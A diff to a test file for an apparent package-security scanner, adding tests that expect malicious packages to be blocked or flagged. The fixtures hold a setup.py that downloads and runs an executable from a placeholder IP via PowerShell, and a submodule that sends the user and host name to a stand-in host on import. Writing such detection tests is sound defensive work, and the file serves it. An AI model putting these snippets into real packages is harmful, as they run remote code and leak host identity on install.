@@ -574,3 +574,24 @@ def test_a_go_init_piping_a_download_into_bin_bash_blocks(tmp_path: Path) -> Non
     )
     files = {"go.mod": "module example.invalid/util\n", "util.go": code}
     assert _decision(_package(tmp_path, "goinit", files)) == "BLOCK"
+
+
+def test_a_powershell_download_started_from_setup_py_blocks(tmp_path: Path) -> None:
+    setup = (
+        "import os\nfrom setuptools import setup\n\nos.system('powershell -Command "
+        "Invoke-WebRequest -Uri http://203.0.113.7/u.exe -OutFile $env:TEMP\\\\u.exe; "
+        "Start-Process $env:TEMP\\\\u.exe')\nsetup(name='winhelp', version='1.0')\n"
+    )
+    assert _decision(_package(tmp_path, "iwr", {"setup.py": setup})) == "BLOCK"
+
+
+def test_a_submodule_phoning_home_with_host_identity_at_import_is_flagged(
+    tmp_path: Path,
+) -> None:
+    beacon = (
+        "import getpass, socket, urllib.request\n\n"
+        "urllib.request.urlopen('https://collect.example.net/i?u=' + getpass.getuser()\n"
+        "                       + '&h=' + socket.gethostname())\n"
+    )
+    files = {"p/__init__.py": "from . import _stats\n", "p/_stats.py": beacon}
+    assert _decision(_package(tmp_path, "sub", files)) != "ALLOW"
